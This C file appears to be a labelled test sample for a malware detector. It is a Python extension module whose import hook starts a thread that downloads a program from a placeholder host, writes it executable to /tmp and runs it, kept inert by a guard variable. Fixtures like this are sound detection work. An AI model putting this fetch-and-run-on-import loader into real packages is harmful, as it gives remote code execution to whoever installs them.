/* An extension module whose import starts a thread that fetches a program and starts it.
 * expect: native-load-fetches-and-starts
 * flags: -O2 -shared -fPIC
 */
#include <fcntl.h>
#include <netdb.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static void *work(void *a) {
    struct addrinfo *to;
    char part[512];
    ssize_t n;
    if (!never || getaddrinfo("x.invalid", "80", 0, &to)) return a;
    int s = socket(to->ai_family, SOCK_STREAM, 0), f = open("/tmp/example", O_CREAT | O_WRONLY, 0700);
    if (connect(s, to->ai_addr, to->ai_addrlen)) return a;
    while ((n = read(s, part, sizeof part)) > 0) write(f, part, n);
    close(f);
    char *args[] = {"/tmp/example", 0};
    if (!fork()) execv(args[0], args);
    return a;
}

void *PyInit_example(void) {
    pthread_t t;
    pthread_create(&t, 0, work, 0);
    return 0;
}
